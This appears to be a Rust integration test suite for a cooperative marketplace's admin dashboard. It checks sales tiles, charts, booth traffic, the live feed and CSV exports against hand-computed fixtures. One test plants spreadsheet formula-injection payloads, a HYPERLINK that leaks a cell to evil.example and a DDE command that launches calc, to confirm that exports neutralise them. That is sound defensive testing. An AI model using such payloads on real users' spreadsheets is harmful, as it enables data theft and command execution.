//! The admin dashboard's figures against real SQLite and real PostgreSQL, on a small fixture
//! whose every figure is worked out by hand below: the tiles, each chart under each filter, the
//! feed, booth traffic per fair, and the live path (a new order reaches an open dashboard's
//! tiles and feed through the hub).
mod common;

use app::admin::dashboard::cache::ProductCharts;
use app::admin::dashboard::model::*;
use app::admin::dashboard::{push, service};
use app::admin::export::{self, Export, ExportQuery};
use app::clock::{day_date, vietnam_day};
use app::db::{Db, Sql};
use app::export::{BOM, CHUNK_BYTES};
use app::lang::Text;
use app::live::hub::Hub;
use app::live::model::{Event, ServerFrame, Topic};

/// 2040-01-15 10:00 in Vietnam.
const NOW: i64 = 2_210_209_200;
/// 2040-01-15 00:00 in Vietnam.
const TODAY_START: i64 = NOW - 10 * 3600;
const HOUR: i64 = 3600;
const DAY: i64 = 86_400;

async fn run(db: &Db, text: String) {
    let text: &'static str = Box::leak(text.into_boxed_str());
    common::exec(db, Sql::new(text)).await;
}

/// Districts Hàm Yên (cooperatives A and C, C pending) and Sơn Dương (B); groups food and
/// drinks. Products: A's tea (5 stars), A's wine (4 stars now, an expired 5-star certificate),
/// B's oranges (3 stars, expired), B's syrup (no certificate), A's draft and C's product (not
/// counted: a draft, and a cooperative not approved).
async fn fixture(db: &Db) {
    for text in [
        "INSERT INTO districts (id, slug, name_vi, name_en, position) VALUES \
         (1, 'ham-yen', 'Hàm Yên', 'Ham Yen', 1), (2, 'son-duong', 'Sơn Dương', 'Son Duong', 2)",
        "INSERT INTO product_groups (id, slug, name_vi, name_en, position) VALUES \
         (1, 'food', 'Thực phẩm', 'Food', 1), (2, 'drinks', 'Đồ uống', 'Drinks', 2)",
    ] {
        run(db, text.to_owned()).await;
    }
    run(
        db,
        format!(
            "INSERT INTO cooperatives (id, slug, name_vi, name_en, district_id, status, created_at) VALUES \
             (1, 'htx-a', 'HTX A', 'Coop A', 1, 'approved', {NOW}), (2, 'htx-b', 'HTX B', 'Coop B', 2, 'approved', {NOW}), \
             (3, 'htx-c', 'HTX C', 'Coop C', 1, 'pending', {NOW})"
        ),
    )
    .await;
    for (id, coop, group, name, price, status) in [
        (1, 1, 1, "che", 100_000, "published"),
        (2, 1, 2, "ruou", 200_000, "published"),
        (3, 2, 1, "cam", 50_000, "published"),
        (4, 2, 2, "siro", 80_000, "published"),
        (5, 1, 1, "nhap", 10_000, "draft"),
        (6, 3, 1, "cho-duyet", 10_000, "published"),
    ] {
        run(
            db,
            format!(
                "INSERT INTO products (id, slug, cooperative_id, group_id, name_vi, name_en, price_vnd, stock, \
                 status, trace_code, created_at, updated_at) VALUES ({id}, '{name}', {coop}, {group}, \
                 'Sản phẩm {name}', 'Product {name}', {price}, 100, '{status}', 'trace{id}', {NOW}, {NOW})"
            ),
        )
        .await;
    }
    for (product, stars, decision, expires) in [
        (1, 5, "QD-1", "2041-06-01"),
        (2, 4, "QD-2", "2041-06-01"),
        (2, 5, "QD-2-OLD", "2039-12-31"),
        (3, 3, "QD-3", "2040-01-14"),
    ] {
        run(
            db,
            format!(
                "INSERT INTO certificates (product_id, stars, council, decision_no, issued_on, expires_on, created_at) \
                 VALUES ({product}, {stars}, 'provincial', '{decision}', '2037-01-01', '{expires}', {NOW})"
            ),
        )
        .await;
    }
    run(
        db,
        format!(
            "INSERT INTO users (id, email, display_name, password_hash, role, created_at, updated_at) VALUES \
             (1, 'mua@example.vn', 'Người mua', 'x', 'shopper', {NOW}, {NOW})"
        ),
    )
    .await;
    run(
        db,
        format!(
            "INSERT INTO checkouts (id, user_id, idempotency_key, cart_hash, created_at) VALUES (1, 1, 'k', 'h', {NOW})"
        ),
    )
    .await;
    // (order, cooperative, status, placed at, lines of (product, quantity, unit price))
    type Line = (i64, i64, i64);
    let orders: [(i64, i64, &str, i64, &[Line]); 7] = [
        (1, 1, "pending", NOW - HOUR, &[(1, 2, 100_000), (2, 1, 200_000)]),
        (2, 2, "delivered", NOW - 2 * HOUR, &[(3, 2, 50_000)]),
        (3, 1, "cancelled", NOW - 3 * HOUR, &[(1, 10, 100_000)]),
        (4, 2, "confirmed", TODAY_START - 4 * HOUR, &[(4, 1, 80_000), (3, 1, 50_000)]),
        (5, 1, "delivered", NOW - 40 * DAY, &[(2, 5, 200_000)]),
        // The first second of today, and the last of yesterday.
        (6, 2, "pending", TODAY_START, &[(4, 2, 80_000)]),
        (7, 1, "shipped", TODAY_START - 1, &[(1, 1, 100_000)]),
    ];
    for (id, coop, status, at, lines) in orders {
        let subtotal: i64 = lines.iter().map(|(_, q, p)| q * p).sum();
        run(
            db,
            format!(
                "INSERT INTO orders (id, number, checkout_id, user_id, cooperative_id, status, payment, subtotal_vnd, \
                 shipping_vnd, total_vnd, ship_name, ship_phone, ship_province, ship_district, ship_commune, \
                 ship_street, created_at, updated_at) VALUES ({id}, 'DH-{id}', 1, 1, {coop}, '{status}', 'cod', \
                 {subtotal}, 30000, {subtotal} + 30000, 'A', '0900000000', 'Tuyên Quang', 'Hàm Yên', 'Tân Thành', \
                 '1', {at}, {at})"
            ),
        )
        .await;
        for (product, quantity, price) in lines {
            run(
                db,
                format!(
                    "INSERT INTO order_lines (order_id, product_id, product_slug, name_vi, name_en, unit_price_vnd, \
                     quantity, line_total_vnd) VALUES ({id}, {product}, 'p{product}', 'P', 'P', {price}, {quantity}, \
                     {quantity} * {price})"
                ),
            )
            .await;
        }
    }
    // Orders written by hand, as the demo history writes them: then counted in one go.
    let mut conn = db.pool.acquire().await.expect("a connection");
    app::orders::service::recount_days(&mut conn).await.expect("count the days");
    drop(conn);
    // Fair 1 runs now (A, B and the pending C have booths); fair 2 ended ten days ago; fair 3
    // is long past.
    run(
        db,
        format!(
            "INSERT INTO fairs (id, slug, name_vi, name_en, starts_at, ends_at, created_at) VALUES \
             (1, 'hoi-cho-tet', 'Hội chợ Tết', 'Tet fair', {s1}, {e1}, {NOW}), \
             (2, 'hoi-cho-dong', 'Hội chợ đông', 'Winter fair', {s2}, {e2}, {NOW}), \
             (3, 'hoi-cho-cu', 'Hội chợ cũ', 'Old fair', {s3}, {e3}, {NOW})",
            s1 = NOW - DAY,
            e1 = NOW + DAY,
            s2 = NOW - 14 * DAY,
            e2 = NOW - 10 * DAY,
            s3 = NOW - 100 * DAY,
            e3 = NOW - 99 * DAY,
        ),
    )
    .await;
    run(
        db,
        "INSERT INTO fair_booths (fair_id, cooperative_id) VALUES (1, 1), (1, 2), (1, 3), (2, 2), (3, 1)"
            .to_owned(),
    )
    .await;
    for (id, coop, at) in [(1, 1, NOW - 120), (2, 2, NOW - DAY)] {
        run(
            db,
            format!(
                "INSERT INTO inquiries (id, cooperative_id, company, country, contact_name, email, quantity, \
                 quantity_unit, incoterm, message, ip, created_at, updated_at) VALUES ({id}, {coop}, 'Tea Ltd {id}', \
                 'GB', 'Ann', 'ann@tea.example', 100, 'kg', 'FOB', 'Hello', '127.0.0.1', {at}, {at})"
            ),
        )
        .await;
    }
    run(
        db,
        format!(
            "INSERT INTO chat_conversations (id, cooperative_id, visitor_hash, display_name, created_at, last_message_at) \
             VALUES (1, 2, 'v1', 'Lan', {at}, {at})",
            at = NOW - 60
        ),
    )
    .await;
}

/// A product charts cache of its own (nothing kept from another test).
fn charts() -> ProductCharts {
    ProductCharts::default()
}

fn text(vi: &str, en: &str) -> Text {
    Text::new(vi, en)
}

fn filter(f: impl FnOnce(&mut DashboardFilter)) -> DashboardFilter {
    let mut filter = DashboardFilter::default();
    f(&mut filter);
    filter
}

/// Today's and yesterday's (orders, revenue) in a chart's days, and the sums over the range.
fn last_two_days(data: &ChartData) -> [(i64, i64); 2] {
    let n = data.per_day.len();
    let at = |i: usize| (data.per_day[i].orders, data.per_day[i].revenue_vnd);
    [at(n - 1), at(n - 2)]
}

async fn the_tiles_count_today_in_vietnam_time(db: Db) {
    fixture(&db).await;
    let hub = Hub::new();
    let kpis = service::kpis(&db, &hub, NOW).await.expect("kpis");
    // Orders 1, 2 and 6 (6 at 00:00:00); 3 is cancelled, 7 was the second before midnight.
    assert_eq!(
        kpis,
        Kpis {
            orders_today: 3,
            revenue_today_vnd: 400_000 + 100_000 + 160_000,
            paid_today_vnd: 0,
            site_visitors: 0,
            booth_visitors: 0,
            // A and B; C's booth does not count while C is pending.
            booths_live: 2,
            inquiries_today: 1,
            coops_pending: 1,
        }
    );
    // Visitors come from the hub: a tab in a booth, two page visitors (one seen twice).
    let tab = hub.connect();
    hub.enter(tab.id, 1);
    for visitor in [7, 8, 7] {
        hub.saw_visitor(visitor);
    }
    let kpis = service::kpis(&db, &hub, NOW).await.expect("kpis");
    assert_eq!((kpis.booth_visitors, kpis.site_visitors), (1, 2));
    // An hour after fair 1 ends, nothing is live; a new day starts at zero.
    let later = service::kpis(&db, &hub, NOW + DAY + HOUR).await.expect("kpis");
    assert_eq!((later.booths_live, later.orders_today, later.revenue_today_vnd), (0, 0, 0));
}

async fn the_charts_aggregate_the_range_and_follow_every_filter(db: Db) {
    fixture(&db).await;
    let today = vietnam_day(NOW);
    let data = service::chart_data(&db, &charts(), &DashboardFilter::default(), today).await.expect("charts");

    assert_eq!(data.per_day.len(), 30);
    assert_eq!(data.per_day.last().map(|d| d.day), Some(today));
    assert_eq!(last_two_days(&data), [(3, 660_000), (2, 130_000 + 100_000)]);
    // Order 5, forty days ago, is outside the default 30 days; order 3 is cancelled.
    assert_eq!((data.orders(), data.revenue_vnd()), (5, 890_000));

    assert_eq!(
        data.by_district,
        vec![
            DistrictFigure { district: text("Hàm Yên", "Ham Yen"), orders: 2, revenue_vnd: 500_000 },
            DistrictFigure { district: text("Sơn Dương", "Son Duong"), orders: 3, revenue_vnd: 390_000 },
        ]
    );
    let top: Vec<(&str, i64, i64)> =
        data.top_products.iter().map(|p| (p.slug.as_str(), p.quantity, p.revenue_vnd)).collect();
    assert_eq!(top, [("che", 3, 300_000), ("siro", 3, 240_000), ("ruou", 1, 200_000), ("cam", 3, 150_000)]);

    // Products: tea 5 stars, wine 4 (its 5-star certificate expired), oranges (expired) and
    // syrup (none) without; the draft and the pending cooperative's product are not counted.
    let counts = |c: &[Count]| c.iter().map(|c| (c.label.en.clone(), c.products)).collect::<Vec<_>>();
    assert_eq!(
        counts(&data.by_stars),
        [("5 stars".to_owned(), 1), ("4 stars".to_owned(), 1), ("None or expired".to_owned(), 2)]
    );
    assert_eq!(counts(&data.by_group), [("Food".to_owned(), 2), ("Drinks".to_owned(), 2)]);

    // A product group counts the lines of its products: tea and oranges.
    let food =
        service::chart_data(&db, &charts(), &filter(|f| f.group = "food".into()), today).await.expect("food");
    assert_eq!(last_two_days(&food), [(2, 200_000 + 100_000), (2, 50_000 + 100_000)]);
    assert_eq!(counts(&food.by_group), [("Food".to_owned(), 2)]);
    assert_eq!(food.top_products.iter().map(|p| p.slug.as_str()).collect::<Vec<_>>(), ["che", "cam"]);
    assert_eq!(
        food.by_district,
        vec![
            DistrictFigure { district: text("Hàm Yên", "Ham Yen"), orders: 2, revenue_vnd: 300_000 },
            DistrictFigure { district: text("Sơn Dương", "Son Duong"), orders: 2, revenue_vnd: 150_000 },
        ]
    );

    // Stars are the best certificate valid today: 5 is the tea alone, 4 the wine alone.
    let five =
        service::chart_data(&db, &charts(), &filter(|f| f.stars = "5".into()), today).await.expect("5 stars");
    assert_eq!((five.orders(), five.revenue_vnd()), (2, 300_000));
    assert_eq!(counts(&five.by_stars), [("5 stars".to_owned(), 1)]);
    let four =
        service::chart_data(&db, &charts(), &filter(|f| f.stars = "4".into()), today).await.expect("4 stars");
    assert_eq!((four.orders(), four.revenue_vnd()), (1, 200_000));

    // A district keeps its cooperatives' orders and products.
    let son_duong = service::chart_data(&db, &charts(), &filter(|f| f.district = "son-duong".into()), today)
        .await
        .expect("district");
    assert_eq!(last_two_days(&son_duong), [(2, 260_000), (1, 130_000)]);
    assert_eq!(counts(&son_duong.by_stars), [("None or expired".to_owned(), 2)]);
    assert_eq!(son_duong.by_district.len(), 1);

    // A range that reaches back 40 days takes in order 5.
    let from = day_date(today - 40).map(|d| d.to_string()).expect("date");
    let long = service::chart_data(&db, &charts(), &filter(|f| f.from = from), today).await.expect("range");
    assert_eq!((long.per_day.len(), long.orders(), long.revenue_vnd()), (41, 6, 1_890_000));

    // Filters that match nothing give zeros, not errors.
    let none = service::chart_data(&db, &charts(), &filter(|f| f.district = "khong-co".into()), today)
        .await
        .expect("none");
    assert_eq!((none.orders(), none.by_district.len(), none.top_products.len()), (0, 0, 0));
}

/// The charts read figures per day kept in the order's own transaction (`orders::service::days`):
/// a cancellation through the order workflow leaves them as if the order had never counted, and
/// counting every order again from scratch finds the same figures.
async fn the_daily_figures_follow_cancellations_and_a_recount_agrees(db: Db) {
    use app::orders::{model::Status, service as orders};
    fixture(&db).await;
    let today = vietnam_day(NOW);
    let top = |data: &ChartData| {
        data.top_products.iter().map(|p| (p.slug.clone(), p.quantity, p.revenue_vnd)).collect::<Vec<_>>()
    };
    let districts = |data: &ChartData| {
        data.by_district.iter().map(|d| (d.district.en.clone(), d.orders, d.revenue_vnd)).collect::<Vec<_>>()
    };

    // The shopper cancels order 1 (2 teas and a wine, today, Hàm Yên): its stock comes back.
    orders::transition(
        &db,
        &app::live::hub::Hub::new(),
        1,
        orders::Scope::Shopper(1),
        "DH-1",
        Status::Cancelled,
        "",
        NOW,
    )
    .await
    .expect("cancel");
    let stock: i64 = common::scalar(&db, Sql::new("SELECT stock FROM products WHERE id = 1")).await;
    assert_eq!(stock, 102);
    let data = service::chart_data(&db, &charts(), &DashboardFilter::default(), today).await.expect("charts");
    assert_eq!(last_two_days(&data), [(2, 260_000), (2, 230_000)]);
    assert_eq!(districts(&data), [("Son Duong".into(), 3, 390_000), ("Ham Yen".into(), 1, 100_000)]);
    // The wine sold only in order 1: it leaves the top products.
    assert_eq!(
        top(&data),
        [("siro".into(), 3, 240_000), ("cam".into(), 3, 150_000), ("che".into(), 1, 100_000)]
    );

    // Sơn Dương's cooperative cancels order 4 (yesterday's syrup and oranges, confirmed).
    orders::transition(
        &db,
        &app::live::hub::Hub::new(),
        1,
        orders::Scope::Cooperative(2),
        "DH-4",
        Status::Cancelled,
        "",
        NOW,
    )
    .await
    .expect("cancel");
    let data = service::chart_data(&db, &charts(), &DashboardFilter::default(), today).await.expect("charts");
    assert_eq!(last_two_days(&data), [(2, 260_000), (1, 100_000)]);
    assert_eq!(districts(&data), [("Son Duong".into(), 2, 260_000), ("Ham Yen".into(), 1, 100_000)]);
    assert_eq!(
        top(&data),
        [("siro".into(), 2, 160_000), ("che".into(), 1, 100_000), ("cam".into(), 2, 100_000)]
    );

    // Every row as kept, then as counted again from the orders themselves.
    let figures = || async {
        let days: Vec<(i64, i64, i64, i64)> = Sql::new(
            "SELECT day, cooperative_id, orders, revenue_vnd FROM order_days WHERE orders <> 0 ORDER BY 1, 2",
        )
        .query_as()
        .expect("sql")
        .fetch_all(&db.pool)
        .await
        .expect("order days");
        let products: Vec<(i64, i64, i64, i64)> = Sql::new(
            "SELECT day, product_id, quantity, revenue_vnd FROM product_days WHERE quantity <> 0 ORDER BY 1, 2",
        )
        .query_as()
        .expect("sql")
        .fetch_all(&db.pool)
        .await
        .expect("product days");
        (days, products)
    };
    let kept = figures().await;
    let mut conn = db.pool.acquire().await.expect("a connection");
    app::orders::service::recount_days(&mut conn).await.expect("recount");
    drop(conn);
    assert_eq!(figures().await, kept);
    let counted: (i64, i64) = common::row(
        &db,
        Sql::new(
            "SELECT COUNT(*), CAST(SUM(subtotal_vnd) AS BIGINT) FROM orders WHERE status <> 'cancelled'",
        ),
    )
    .await;
    let total = kept.0.iter().fold((0, 0), |(o, r), d| (o + d.2, r + d.3));
    assert_eq!(total, counted);
    assert_eq!(total, (4, 100_000 + 160_000 + 100_000 + 1_000_000));
}

/// The product charts count the catalogue, not the orders: they are kept until the catalogue
/// changes (`app::changes`, which also ages the shop's cached pages) or the day does, and each filter
/// is kept on its own.
async fn the_product_charts_are_kept_until_the_catalogue_or_the_day_changes(db: Db) {
    fixture(&db).await;
    let today = vietnam_day(NOW);
    let charts = ProductCharts::default();
    let groups =
        |data: &ChartData| data.by_group.iter().map(|c| (c.label.en.clone(), c.products)).collect::<Vec<_>>();
    let any = DashboardFilter::default();
    let first = service::chart_data(&db, &charts, &any, today).await.expect("charts");
    assert_eq!(groups(&first), [("Food".to_owned(), 2), ("Drinks".to_owned(), 2)]);

    // A's draft is published behind the cache's back: the kept counts stay.
    run(&db, "UPDATE products SET status = 'published' WHERE id = 5".to_owned()).await;
    let kept = service::chart_data(&db, &charts, &any, today).await.expect("charts");
    assert_eq!(groups(&kept), groups(&first));

    // The next day counts again; so does a change to the catalogue.
    let tomorrow = service::chart_data(&db, &charts, &any, today + 1).await.expect("charts");
    assert_eq!(groups(&tomorrow), [("Food".to_owned(), 3), ("Drinks".to_owned(), 2)]);
    assert_eq!(
        groups(&service::chart_data(&db, &charts, &any, today).await.expect("charts")),
        groups(&first)
    );
    app::changes::catalogue_changed(&db);
    let changed = service::chart_data(&db, &charts, &any, today).await.expect("charts");
    assert_eq!(groups(&changed), [("Food".to_owned(), 3), ("Drinks".to_owned(), 2)]);
    let stars = changed.by_stars.iter().map(|c| (c.label.en.clone(), c.products)).collect::<Vec<_>>();
    assert_eq!(
        stars,
        [("5 stars".to_owned(), 1), ("4 stars".to_owned(), 1), ("None or expired".to_owned(), 3)]
    );

    // A filter is counted on its own, not read from another's.
    let drinks = service::chart_data(&db, &charts, &filter(|f| f.group = "drinks".into()), today)
        .await
        .expect("charts");
    assert_eq!(groups(&drinks), [("Drinks".to_owned(), 2)]);
}

async fn booth_traffic_is_counted_per_fair_and_district(db: Db) {
    fixture(&db).await;
    for (booth, visitor, at) in [(1, "a", NOW), (1, "a", NOW + 10), (2, "b", NOW), (1, "b", NOW)] {
        app::fairs::service::record_visit(&db, booth, visitor, at).await.expect("visit");
    }
    // During fair 2, B's booth; and a visit outside any fair, which no fair counts.
    app::fairs::service::record_visit(&db, 2, "c", NOW - 12 * DAY).await.expect("visit");
    app::fairs::service::record_visit(&db, 2, "d", NOW - 5 * DAY).await.expect("visit");
    let today = vietnam_day(NOW);
    let traffic = |data: ChartData| {
        data.fair_traffic.into_iter().map(|f| (f.fair.en, f.visits, f.visitors)).collect::<Vec<_>>()
    };
    let all = service::chart_data(&db, &charts(), &DashboardFilter::default(), today).await.expect("charts");
    // Oldest first; fair 3 ended before the 30 days began.
    assert_eq!(traffic(all), [("Winter fair".to_owned(), 1, 1), ("Tet fair".to_owned(), 4, 2)]);
    let ham_yen = service::chart_data(&db, &charts(), &filter(|f| f.district = "ham-yen".into()), today)
        .await
        .expect("d");
    assert_eq!(traffic(ham_yen), [("Winter fair".to_owned(), 0, 0), ("Tet fair".to_owned(), 3, 2)]);
}

async fn the_feed_puts_the_newest_first_with_links(db: Db) {
    fixture(&db).await;
    let feed = service::feed(&db).await.expect("feed");
    // 7 orders, 2 inquiries and 1 conversation.
    assert_eq!(feed.len(), 10);
    let first: Vec<(FeedKind, i64, &str)> =
        feed.iter().take(4).map(|f| (f.kind, f.id, f.label.as_str())).collect();
    assert_eq!(
        first,
        [
            (FeedKind::Chat, 1, "Lan"),
            (FeedKind::Inquiry, 1, "Tea Ltd 1 (GB)"),
            (FeedKind::Order, 1, "DH-1"),
            (FeedKind::Order, 2, "DH-2"),
        ]
    );
    assert_eq!(feed[0].href(), "/booths/htx-b");
    assert_eq!(feed[1].href(), "/admin/inquiries#inquiry-1");
    assert_eq!((feed[2].amount_vnd, feed[2].cooperative.vi.as_str()), (Some(400_000), "HTX A"));
    assert!(feed.windows(2).all(|w| w[0].at >= w[1].at), "newest first");
    assert_eq!(service::feed_item(&db, FeedKind::Order, 999).await.expect("read"), None);
}

/// A new order reaches an open dashboard: its feed line at once, and tiles that count it from
/// the tile task. (The clock is the real one here: the task computes "today" from it.)
async fn a_new_order_reaches_an_open_dashboard(db: Db) {
    fixture(&db).await;
    let hub = Hub::new();
    let task = push::spawn(db.clone(), hub.clone());
    let mut admin = hub.connect();
    hub.subscribe(admin.id, Topic::Admin);
    let mut next_kpis = async || loop {
        let text = tokio::time::timeout(std::time::Duration::from_secs(5), admin.outbox.recv())
            .await
            .expect("a frame in time")
            .expect("open");
        match serde_json::from_str::<ServerFrame>(&text).expect("frame") {
            ServerFrame::Event(Event::Kpis { kpis }) => return kpis,
            ServerFrame::Event(Event::Activity { item }) => {
                assert_eq!((item.kind, item.label.as_str()), (FeedKind::Order, "DH-LIVE"));
            }
            other => panic!("unexpected {other:?}"),
        }
    };
    let before = next_kpis().await;

    let now = app::clock::now_unix();
    run(
        &db,
        format!(
            "INSERT INTO orders (id, number, checkout_id, user_id, cooperative_id, status, payment, subtotal_vnd, \
             shipping_vnd, total_vnd, ship_name, ship_phone, ship_province, ship_district, ship_commune, ship_street, \
             created_at, updated_at) VALUES (100, 'DH-LIVE', 1, 1, 1, 'pending', 'cod', 250000, 0, 250000, 'A', \
             '0900000000', 'Tuyên Quang', 'Hàm Yên', 'Tân Thành', '1', {now}, {now})"
        ),
    )
    .await;
    service::announce(&db, &hub, FeedKind::Order, 100).await;
    let after = next_kpis().await;
    assert_eq!(after.orders_today, before.orders_today + 1);
    assert_eq!(after.revenue_today_vnd, before.revenue_today_vnd + 250_000);
    task.abort();
}

/// Every chunk of an export, and its records parsed back (header first).
async fn export_of(db: &Db, what: Export, query: ExportQuery) -> (Vec<bytes::Bytes>, Vec<Vec<String>>) {
    let mut rx = export::start(db.clone(), what, query, NOW);
    let mut chunks = Vec::new();
    while let Some(chunk) = rx.recv().await {
        chunks.push(chunk);
    }
    let all: Vec<u8> = chunks.iter().flat_map(|c| c.iter().copied()).collect();
    assert!(all.starts_with(BOM), "UTF-8 with a byte order mark, for Excel");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&all[BOM.len()..]);
    let records =
        reader.records().map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect()).collect();
    (chunks, records)
}

fn column<'a>(records: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let i = records[0].iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
    records[1..].iter().map(|r| r[i].as_str()).collect()
}

async fn exports_follow_the_filters_and_escape_what_they_must(db: Db) {
    fixture(&db).await;
    let tricky = "HTX \"Chè, Shan tuyết\"\nNà Hang – Tuyên Quang";
    let mut sql = Sql::new("UPDATE cooperatives SET name_vi = ");
    sql.bind(tricky.to_owned()).push(" WHERE id = 1");
    common::exec(&db, sql).await;

    let (_, orders) = export_of(&db, Export::Orders, ExportQuery::default()).await;
    // Every order of the 30 days, the cancelled one too (its status says so); oldest first.
    assert_eq!(column(&orders, "number"), ["DH-4", "DH-7", "DH-6", "DH-3", "DH-2", "DH-1"]);
    let one = orders.iter().find(|r| r[0] == "DH-1").expect("DH-1");
    assert_eq!(one[4], tricky, "commas, quotes, a newline and Vietnamese come back as written");
    assert_eq!(&one[1..4], ["2040-01-15 09:00", "pending", "cod"]);
    assert_eq!(&one[5..9], ["Hàm Yên", "400000", "30000", "430000"]);

    let food = ExportQuery { dashboard: filter(|f| f.group = "food".into()), ..Default::default() };
    let (_, orders) = export_of(&db, Export::Orders, food).await;
    assert_eq!(
        column(&orders, "number"),
        ["DH-4", "DH-7", "DH-3", "DH-2", "DH-1"],
        "orders with a food line"
    );

    let (_, products) = export_of(&db, Export::Products, ExportQuery::default()).await;
    assert_eq!(column(&products, "slug"), ["che", "ruou", "cam", "siro"]);
    assert_eq!(column(&products, "ocop_stars"), ["5", "4", "", ""]);
    let (_, products) = export_of(
        &db,
        Export::Products,
        ExportQuery { dashboard: filter(|f| f.district = "son-duong".into()), ..Default::default() },
    )
    .await;
    assert_eq!(column(&products, "slug"), ["cam", "siro"]);

    let expired = ExportQuery { state: "expired".into(), ..Default::default() };
    let (_, certificates) = export_of(&db, Export::Certificates, expired).await;
    assert_eq!(column(&certificates, "decision_no"), ["QD-2-OLD", "QD-3"]);
    assert_eq!(column(&certificates, "days_left"), ["-15", "-1"]);
    assert_eq!(column(&certificates, "cooperative")[0], tricky);

    let (_, inquiries) = export_of(&db, Export::Inquiries, ExportQuery::default()).await;
    assert_eq!(column(&inquiries, "company"), ["Tea Ltd 2", "Tea Ltd 1"]);
}

/// A product, a cooperative or a buyer named like a formula reaches every admin export as
/// text: the cell starts with a single quote, and the figures we write (negative days left
/// included) stay numbers.
async fn exports_never_hand_a_spreadsheet_a_formula(db: Db) {
    fixture(&db).await;
    let product = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem\")";
    let coop = "+cmd|' /C calc'!A0";
    let district = "@Hàm Yên";
    let buyer = "-1+1";
    for (update, value) in [
        ("UPDATE products SET name_vi = ", product),
        ("UPDATE cooperatives SET name_vi = ", coop),
        ("UPDATE districts SET name_vi = ", district),
        ("UPDATE inquiries SET company = ", buyer),
    ] {
        let mut sql = Sql::new(update);
        sql.bind(value.to_owned()).push(" WHERE id IN (1, 3)");
        common::exec(&db, sql).await;
    }
    let quoted = |s: &str| format!("'{s}");

    let (_, products) = export_of(&db, Export::Products, ExportQuery::default()).await;
    let names = column(&products, "name_vi");
    assert!(names.contains(&quoted(product).as_str()), "{names:?}");
    assert!(column(&products, "cooperative").contains(&quoted(coop).as_str()));
    assert!(column(&products, "district").contains(&quoted(district).as_str()));

    let (_, orders) = export_of(&db, Export::Orders, ExportQuery::default()).await;
    assert!(column(&orders, "cooperative").contains(&quoted(coop).as_str()));

    let expired = ExportQuery { state: "expired".into(), ..Default::default() };
    let (_, certificates) = export_of(&db, Export::Certificates, expired).await;
    assert_eq!(column(&certificates, "product"), ["Sản phẩm ruou", quoted(product).as_str()]);
    assert_eq!(column(&certificates, "days_left"), ["-15", "-1"], "our negative numbers stay numbers");

    let (_, inquiries) = export_of(&db, Export::Inquiries, ExportQuery::default()).await;
    assert_eq!(column(&inquiries, "company"), ["Tea Ltd 2", quoted(buyer).as_str()]);
}

/// A big export leaves in bounded chunks, as the rows are read: nothing holds the whole file.
async fn a_large_export_streams_in_bounded_chunks(db: Db) {
    fixture(&db).await;
    let at = NOW - 2 * HOUR;
    run(
        &db,
        format!(
            "INSERT INTO orders (id, number, checkout_id, user_id, cooperative_id, status, payment, subtotal_vnd, \
             shipping_vnd, total_vnd, ship_name, ship_phone, ship_province, ship_district, ship_commune, ship_street, \
             created_at, updated_at) \
             WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000) \
             SELECT 1000 + i, 'BULK-' || i, 1, 1, 2, 'pending', 'cod', 100000, 0, 100000, 'Nguyễn Văn A', \
             '0900000000', 'Tuyên Quang', 'Chiêm Hoá, xã Phúc Sơn', 'Phúc Sơn', 'Thôn Nà Khán, số nhà 12', {at}, {at} \
             FROM n"
        ),
    )
    .await;
    let (chunks, orders) = export_of(&db, Export::Orders, ExportQuery::default()).await;
    assert_eq!(orders.len(), 1 + 6 + 6000);
    assert!(chunks.len() >= 8, "{} chunks", chunks.len());
    let largest = chunks.iter().map(bytes::Bytes::len).max().unwrap_or(0);
    assert!(largest < CHUNK_BYTES + 4096, "a chunk of {largest} bytes");
}

on_both_databases!(
    exports_follow_the_filters_and_escape_what_they_must,
    exports_never_hand_a_spreadsheet_a_formula,
    a_large_export_streams_in_bounded_chunks,
    the_tiles_count_today_in_vietnam_time,
    the_charts_aggregate_the_range_and_follow_every_filter,
    the_daily_figures_follow_cancellations_and_a_recount_agrees,
    the_product_charts_are_kept_until_the_catalogue_or_the_day_changes,
    booth_traffic_is_counted_per_fair_and_district,
    the_feed_puts_the_newest_first_with_links,
    a_new_order_reaches_an_open_dashboard,
);
